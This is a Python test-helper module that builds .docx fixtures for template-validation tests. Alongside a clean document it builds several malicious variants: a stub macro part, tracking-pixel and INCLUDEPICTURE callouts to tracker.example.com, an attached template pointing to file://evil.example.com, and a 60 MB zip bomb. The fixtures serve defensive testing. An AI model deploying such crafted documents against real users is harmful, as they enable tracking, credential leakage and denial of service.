"""Builders of small .docx files for template tests: good ones and each kind of bad one."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

from docx import Document


def docx_with(paragraphs: list[str | list[str]]) -> bytes:
    """A real .docx whose paragraphs are given as one string (one run) or a list of runs."""
    doc = Document()
    for paragraph in paragraphs:
        p = doc.add_paragraph()
        for run in [paragraph] if isinstance(paragraph, str) else paragraph:
            p.add_run(run)
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def rewrite(
    data: bytes,
    change: Callable[[str, bytes], bytes | None],
    add: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """Copy a zip, passing each member through ``change`` (None drops it) and adding ``add``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", compression) as dst:
        for name in src.namelist():
            content = change(name, src.read(name))
            if content is not None:
                dst.writestr(name, content)
        for name, content in (add or {}).items():
            dst.writestr(name, content)
    return out.getvalue()


def with_macro(data: bytes) -> bytes:
    def change(name: str, content: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return content.replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            )
        return content

    return rewrite(data, change, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 fake OLE macro storage"})


def with_remote_image(data: bytes) -> bytes:
    def change(name: str, content: bytes) -> bytes:
        if name == "word/_rels/document.xml.rels":
            return content.replace(
                b"</Relationships>",
                b'<Relationship Id="rId99" Type="http://schemas.'
                b'openxmlformats.org/officeDocument/2006/relationships/image" Target='
                b'"http://tracker.example.com/pixel.png" TargetMode="External"/></Relationships>',
            )
        return content

    return rewrite(data, change)


def with_attached_template(data: bytes) -> bytes:
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="file://evil.example.com/share/normal.dotm" TargetMode="External"/></Relationships>'
    )
    return rewrite(data, lambda n, c: c, {"word/_rels/settings.xml.rels": rels})


def with_hyperlink(data: bytes) -> bytes:
    def change(name: str, content: bytes) -> bytes:
        if name == "word/_rels/document.xml.rels":
            return content.replace(
                b"</Relationships>",
                b'<Relationship Id="rId98" Type="http://schemas.'
                b'openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target='
                b'"https://www.qiming-soft.cn" TargetMode="External"/></Relationships>',
            )
        return content

    return rewrite(data, change)


def with_include_picture(data: bytes) -> bytes:
    field = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
        b' INCLUDEPICTURE "http://tracker.example.com/p.png" \\d </w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )

    def change(name: str, content: bytes) -> bytes:
        return (
            content.replace(b"<w:sectPr", field + b"<w:sectPr", 1) if name == "word/document.xml" else content
        )

    return rewrite(data, change)


def zip_bomb(data: bytes, megabytes: int = 60) -> bytes:
    """A valid small document plus one member that unpacks to ``megabytes`` of zeros."""
    return rewrite(data, lambda n, c: c, {"word/media/bomb.bin": b"\0" * (megabytes * 1024 * 1024)})
